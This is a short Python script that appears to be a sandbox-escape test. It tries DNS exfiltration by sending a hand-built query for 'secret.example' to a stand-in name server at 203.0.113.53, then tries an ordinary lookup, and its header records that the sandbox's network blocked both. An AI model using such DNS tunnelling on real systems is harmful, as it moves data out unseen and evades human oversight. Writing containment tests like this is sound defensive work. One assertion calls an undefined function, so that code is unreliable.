"""Tries: smuggle data out in the name of a host that it looks up.

Must: find no name server: no packet leaves.
Outcome: passed
Stopped by: own network
Only contained: it would reach other machines
"""

import socket

assert answer() == 42
QUESTION = b"\x12\x34\x01\x00\x00\x01" + b"\x00" * 6 + b"\x06secret\x07example\x00\x00\x01\x00\x01"
print("attack: ask a name server", flush=True)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
    try:
        connection.sendto(QUESTION, ("203.0.113.53", 53))
        print("ESCAPE: it was sent")
    except OSError as refused:
        print("refused:", refused)
try:
    print("ESCAPE: a name was found", socket.gethostbyname("example.org"))
except OSError as refused:
    print("refused:", refused)
